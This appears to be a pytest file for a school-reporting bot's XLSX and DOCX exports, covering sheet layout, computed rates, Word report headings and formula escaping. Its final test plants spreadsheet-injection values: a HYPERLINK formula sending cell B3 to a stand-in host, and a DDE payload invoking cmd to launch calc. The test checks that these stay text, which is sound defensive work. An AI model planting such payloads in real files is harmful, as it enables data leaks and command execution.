"""XLSX and DOCX exports, read back with openpyxl and python-docx and checked against
what the units typed."""

from __future__ import annotations

import csv
import io
import threading
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import docx
import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

import bot.services.export as export_module
from bot.domain.models import Period
from bot.forms.schema import FieldSpec
from bot.numbers import format_number
from bot.services.container import Services
from bot.services.export_data import rates_of
from bot.services.export_xlsx import MAX_WIDTH, MIN_WIDTH
from tests.conftest import EXAMPLE_UNITS
from tests.form_steps import label
from tests.reports import VALID_ANSWERS, bind, fill, submit
from tests.rules import TEST_FORM, TEST_METHODOLOGY, YEAR

# The rates the year's criteria compute, as the export shows them beside the answers.
RATES = rates_of(TEST_METHODOLOGY, TEST_FORM)

BLOCK = "truc_thuoc"
SHEET = "Các trường THPT và đơn vị trực"
# Three schools report with different numbers; one only drafts; the rest do not report.
REPORTS: dict[str, dict[str, str]] = {
    "THPT-QH": {"dossiers_online": "1.200", "dossiers_on_time": "1.240", "dossiers_late": "10"},
    "THPT-LQD": {
        "dossiers_received": "800",
        "dossiers_online": "400",
        "dossiers_on_time": "790",
        "dossiers_late": "10",
        "highlights": "=SUM(A1:A9) mô hình “Một cửa số”\nnhân rộng ra 3 trường",
        "requests": "skip",
        "sipas_rate": "88,25%",
    },
    "THPT-CVA": {"dossiers_online": "900", "feedback_received": "0", "feedback_on_time": "0"},
}
DRAFTER = "THPT-NTH"


def typed(key: str, code: str) -> str:
    return {**VALID_ANSWERS, **REPORTS[code]}[key]


def expected_cell(spec: FieldSpec, text: str) -> object:
    """What the cell must hold for what the unit typed (worked out by hand, not by the
    bot's parser): numbers as numbers, choices by label, files by name, skips empty."""
    if text == "skip":
        return None
    if text == "file":
        return "bao-cao.pdf"
    if text.startswith("button:"):
        return text.removeprefix("button:")
    if spec.type == "integer":
        return int(text.replace(".", ""))
    if spec.type in {"decimal", "percent"}:
        return float(text.replace("%", "").replace(",", "."))
    return text


@pytest.fixture
async def period(services: Services) -> Period:
    for i, (code, overrides) in enumerate(REPORTS.items()):
        await submit(services, await bind(services, 9700 + i, code), overrides)
    await fill(services, await bind(services, 9799, DRAFTER), stop_at="inspections")
    found = await services.periods.resolve("2025-Q1")
    assert found is not None
    return found


def sheet_rows(sheet: Worksheet) -> list[dict[str, object]]:
    values = list(sheet.iter_rows(values_only=True))
    header = [str(h) for h in values[0]]
    return [dict(zip(header, row, strict=True)) for row in values[1:]]


async def test_xlsx_has_a_sheet_per_block_and_every_submitted_value(
    services: Services, period: Period
) -> None:
    exported = await services.export.render(period, "xlsx")

    assert exported.file_name == "cchc-2025-Q1.xlsx"
    assert (exported.units, exported.submitted) == (EXAMPLE_UNITS, 3)
    book = load_workbook(io.BytesIO(exported.content))
    assert book.sheetnames == [
        "Tổng hợp",
        "Các phòng chuyên môn, nghiệp vụ",
        "Các Phòng Giáo dục và Đào tạo",
        SHEET,
        "Các Trung tâm GDTX, GDNN-GDTX",
    ]
    sheet = book[SHEET]
    rows = sheet_rows(sheet)
    header = [c.value for c in sheet[1]]
    form = services.rules.form(YEAR)
    assert header[:11] == [
        "STT",
        "Mã đơn vị",
        "Tên đơn vị",
        "Địa bàn",
        "Tình trạng báo cáo",
        "Thời điểm gửi",
        "Lần gửi",
        "Số hiệu báo cáo",
        "Chỉ số CCHC",
        "Xếp loại",
        "Xếp hạng trong khối",
    ]
    rates = [r.label for r in RATES]
    assert header[11 : 11 + len(rates)] == rates
    assert header[11 + len(rates) :] == [f.label for f in form.fields]
    # Every unit of the block is listed, reporters first in ranking order.
    block_units = [u for u in await services.roster.list_units() if u.block == BLOCK]
    assert sorted(str(r["Mã đơn vị"]) for r in rows) == sorted(u.code for u in block_units)
    assert [r["STT"] for r in rows] == list(range(1, len(block_units) + 1))
    ranking = await services.standings.block_ranking(
        services.standings.parse_scope("2025-Q1"), BLOCK
    )
    reported = [r for r in ranking.rows if r.ranked.rank is not None]
    assert [r["Mã đơn vị"] for r in rows[:3]] == [r.unit.code for r in reported]

    by_code = {str(r["Mã đơn vị"]): r for r in rows}
    for ranked in reported:
        row = by_code[ranked.unit.code]
        code = ranked.unit.code
        assert row["Tên đơn vị"] == ranked.unit.name
        assert row["Tình trạng báo cáo"] == "Đã gửi"
        assert row["Lần gửi"] == 1
        assert row["Số hiệu báo cáo"] == f"CCHC-2025-Q1-{code}-01"
        # 09:00 on 20/02/2025 in Hà Nội, as the office's clock reads.
        assert row["Thời điểm gửi"] == datetime(2025, 2, 20, 9, 0)  # noqa: DTZ001 - naive in Excel
        assert ranked.score is not None
        assert Decimal(str(row["Chỉ số CCHC"])) == ranked.score.index
        assert row["Xếp loại"] == ranked.score.band
        assert row["Xếp hạng trong khối"] == ranked.ranked.rank
        for spec in form.fields:
            assert row[spec.label] == expected_cell(spec, typed(spec.key, code)), (code, spec.key)

    qh, lqd, cva = by_code["THPT-QH"], by_code["THPT-LQD"], by_code["THPT-CVA"]
    rate = {r.key: r.label for r in RATES}
    online, on_time, feedback = rate["online_rate"], rate["on_time_rate"], rate["feedback_rate"]
    assert qh[online] == 96  # 1.200 of 1.250
    assert qh[on_time] == pytest.approx(99.2)  # 1.240 of 1.240 + 10
    assert lqd[online] == 50
    assert lqd[on_time] == pytest.approx(98.75)
    assert qh[feedback] == 100
    assert cva[feedback] is None  # no feedback received: nothing to measure
    # Text that looks like a formula stays text.
    assert (
        sheet.cell(row=rows.index(lqd) + 2, column=header.index(label("highlights")) + 1).data_type
        == "s"
    )

    for code, status in ((DRAFTER, "Đang soạn, chưa nộp"), ("THPT-AL", "Chưa nộp")):
        row = by_code[code]
        assert row["Tình trạng báo cáo"] == status
        # A draft is not vouched for: nothing of it leaks into the export.
        assert all(row[h] is None for h in header[5:]), code


async def test_xlsx_is_laid_out_for_reading(services: Services, period: Period) -> None:
    book = load_workbook(io.BytesIO((await services.export.render(period, "xlsx")).content))
    sheet = book[SHEET]
    header = [c.value for c in sheet[1]]

    assert sheet.freeze_panes == "D2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(header)).column_letter}{sheet.max_row}"
    assert all(c.font.b for c in sheet[1])
    column = {h: i + 1 for i, h in enumerate(header)}

    def fmt(name: str) -> str:
        return str(sheet.cell(row=2, column=column[name]).number_format)

    assert fmt(label("dossiers_received")) == "#,##0"
    assert fmt(label("e_documents_rate")) == "#,##0.0#"
    assert fmt("Chỉ số CCHC") == "0.00"
    assert all(fmt(r.label) == "0.00" for r in RATES)
    assert fmt("Thời điểm gửi") == "dd/mm/yyyy hh:mm"
    widths = [
        sheet.column_dimensions[sheet.cell(1, i).column_letter].width for i in column.values()
    ]
    assert all(MIN_WIDTH <= w <= 50 for w in widths[1:]), widths
    assert sheet.column_dimensions["C"].width >= 30  # unit names are long
    assert max(widths) <= max(MAX_WIDTH, 50)

    summary = book["Tổng hợp"]
    cells = list(summary.iter_rows(values_only=True))
    assert str(cells[0][0]).startswith(
        "TỔNG HỢP BÁO CÁO KẾT QUẢ THỰC HIỆN CÔNG TÁC CCHC QUÝ I/2025"
    )
    assert str(cells[3][0]) == (
        "Chỉ số, xếp loại và xếp hạng: Kết quả theo dõi quý I/2025 (tạm tính, chưa công bố)."
    )
    assert cells[2][0] == "Xuất lúc 09:00 ngày 20/02/2025."
    totals = cells[-1]
    # 3 submitted, 1 draft, the rest not started; 3 of 71 is 4,23% in the draft report.
    assert totals[:5] == ("Tổng cộng", EXAMPLE_UNITS, 3, 1, EXAMPLE_UNITS - 4)
    assert totals[5] == pytest.approx(round(100 * 3 / EXAMPLE_UNITS, 2))
    truc_thuoc = next(r for r in cells if r[0] == "Khối các trường THPT và đơn vị trực thuộc")
    assert truc_thuoc[2] == 3


async def test_docx_draft_has_the_national_header_totals_and_gathered_texts(
    services: Services, period: Period
) -> None:
    exported = await services.export.render(period, "docx")

    assert exported.file_name == "bao-cao-cchc-2025-Q1.docx"
    document = docx.Document(io.BytesIO(exported.content))
    header = [c.text for c in document.tables[0].rows[0].cells]
    assert "SỞ GIÁO DỤC VÀ ĐÀO TẠO" in header[0]
    assert "Số:       /BC-SGDĐT" in header[0]
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in header[1]
    assert "Độc lập - Tự do - Hạnh phúc" in header[1]
    assert "ngày    tháng    năm 2025" in header[1]
    titles = [p.text for p in document.paragraphs if p.style.name in {"Title", "Subtitle"}]
    assert titles == [
        "BÁO CÁO",
        "Kết quả thực hiện công tác cải cách hành chính quý I năm 2025",
    ]
    headings = [p.text for p in document.paragraphs if p.style.name == "Heading 1"]
    assert headings == [
        "I. TÌNH HÌNH BÁO CÁO CỦA CÁC ĐƠN VỊ",
        "II. KẾT QUẢ THỰC HIỆN CÁC NHIỆM VỤ CẢI CÁCH HÀNH CHÍNH",
        "III. KẾT QUẢ NỔI BẬT",
        "IV. TỒN TẠI, HẠN CHẾ",
        "V. PHƯƠNG HƯỚNG, NHIỆM VỤ QUÝ TỚI",
        "VI. KIẾN NGHỊ, ĐỀ XUẤT",
        "Phụ lục: Kết quả theo dõi quý I/2025 (tạm tính, chưa công bố)",
    ]
    text = "\n".join(p.text for p in document.paragraphs)
    assert (
        f"Tổng số đơn vị thuộc đối tượng báo cáo: {EXAMPLE_UNITS}; đã gửi báo cáo: 3 đơn vị"
        in text
    )
    assert "số liệu từ ngày 15/12/2024 đến ngày 14/03/2025" in text

    # Totals across the three reports, in the tables of part II.
    results = {
        row.cells[0].text: row.cells[1].text
        for table in document.tables
        for row in table.rows
        if len(row.cells) == 2
    }
    assert 1250 + 800 + 1250 == 3300
    assert results[label("dossiers_received")] == "Tổng cộng: 3.300"
    assert results[label("dossiers_online")] == "Tổng cộng: 2.500"
    rate = {r.key: r.label.removesuffix(" (%)") for r in RATES}
    assert results[rate["online_rate"]] == "75,76% (2.500/3.300)"
    # On time against resolved: (1.240 + 790 + 1.200) / (that + 10 + 10 + 50).
    assert results[rate["on_time_rate"]] == "97,88% (3.230/3.300)"
    assert results[label("sipas_rate")] == (
        "Bình quân: 90,75% (3 đơn vị có số liệu)"  # (92 + 88,25 + 92) / 3
    )
    assert results[label("iso_applied")] == ("3/3 đơn vị trả lời Có")
    status = document.tables[1]
    share = format_number(Decimal(300) / EXAMPLE_UNITS, min_decimals=2)
    assert [c.text for c in status.rows[-1].cells] == [
        "Tổng cộng",
        str(EXAMPLE_UNITS),
        "3",
        f"{share}%",
    ]

    # Highlights and requests, grouped by block, each under its unit's name.
    assert (
        "Trường THPT chuyên Lê Quý Đôn: =SUM(A1:A9) mô hình “Một cửa số”\nnhân rộng ra 3 trường"
        in text
    )
    requests_at = text.index("VI. KIẾN NGHỊ, ĐỀ XUẤT")
    after = text[requests_at:]
    assert "Khối các trường THPT và đơn vị trực thuộc" in after
    assert after.count("Đề nghị tập huấn") == 2  # THPT-LQD skipped its requests
    assert "Trường THPT chuyên Lê Quý Đôn" not in after.split("Phụ lục")[0]
    assert "chưa nộp báo cáo" in "\n".join(
        c.text for t in document.tables for r in t.rows for c in r.cells
    )


async def test_exports_of_a_period_nobody_reported(services: Services) -> None:
    period = await services.periods.resolve("2025-Q2")
    assert period is not None

    book = load_workbook(io.BytesIO((await services.export.render(period, "xlsx")).content))
    document = docx.Document(io.BytesIO((await services.export.render(period, "docx")).content))

    assert len(sheet_rows(book[SHEET])) == 42
    assert {r["Tình trạng báo cáo"] for r in sheet_rows(book[SHEET])} == {"Chưa nộp"}
    text = "\n".join(p.text for p in document.paragraphs)
    assert "đã gửi báo cáo: 0 đơn vị" in text
    assert "Các đơn vị không nêu nội dung này trong báo cáo." in text


async def test_files_are_built_off_the_event_loop(
    services: Services, period: Period, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The workbook and the draft take CPU for a few hundred units: never on the loop."""
    render = export_module._render
    threads: list[int] = []

    def recording(fmt: export_module.ExportFormat, data: export_module.PeriodExport) -> bytes:
        threads.append(threading.get_ident())
        return render(fmt, data)

    monkeypatch.setattr(export_module, "_render", recording)

    for fmt in ("xlsx", "docx"):
        assert (await services.export.render(period, fmt)).content.startswith(b"PK")

    assert len(threads) == 2
    assert threading.get_ident() not in threads


async def test_formula_like_text_stays_text_in_the_workbook_and_the_draft_report(
    services: Services, tmp_path: Path
) -> None:
    # Names and answers typed outside the office, all shaped like spreadsheet formulas.
    unit_name = '=HYPERLINK("http://x/?d="&B3,"Trường THPT Quốc Học")'
    block_name = "=1+1 Khối trung tâm"
    answers = {
        "highlights": '=HYPERLINK("http://x/?d="&B3,"Chi tiết")',
        "shortcomings": "@SUM(1+1)*cmd|' /C calc'!A0",
        "next_quarter": "+1+1",
        "requests": "-2+3",
        "signed_report": "file:=2+3.pdf",
    }
    renamed = tmp_path / "renamed.csv"
    with renamed.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(
            [["code", "name", "block"], ["THPT-QH", unit_name, "truc_thuoc"]]
        )
    assert (await services.roster.import_file(renamed, actor="test")).updated == 1
    await services.roster.add_block("trung_tam", block_name)
    await submit(services, await bind(services, 9701, "THPT-QH"), answers)
    period = await services.periods.resolve("2025-Q1")
    assert period is not None

    book = load_workbook(io.BytesIO((await services.export.render(period, "xlsx")).content))

    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    hostile = [unit_name, block_name, "=2+3.pdf", *answers.values()]
    hostile.remove("file:=2+3.pdf")
    for text in hostile:
        assert by_value[text].data_type == "s", text  # shown as typed, as text

    document = docx.Document(io.BytesIO((await services.export.render(period, "docx")).content))
    body = document.element.xml
    # Word runs only field codes; the units' words are plain runs of text.
    assert "fldSimple" not in body
    assert "instrText" not in body
    shown = "\n".join(p.text for p in document.paragraphs)
    assert answers["highlights"] in shown
